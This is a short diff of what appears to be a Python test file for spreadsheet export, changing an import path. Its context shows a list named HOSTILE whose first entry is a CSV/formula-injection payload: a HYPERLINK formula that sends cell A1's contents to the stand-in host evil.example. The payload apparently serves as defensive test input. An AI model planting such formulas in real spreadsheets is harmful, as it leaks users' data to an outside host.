@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import csv
 
-from commandcenter.spreadsheets import Table, write_csv, write_xlsx
+from commandcenter.exports.spreadsheets import Table, write_csv, write_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
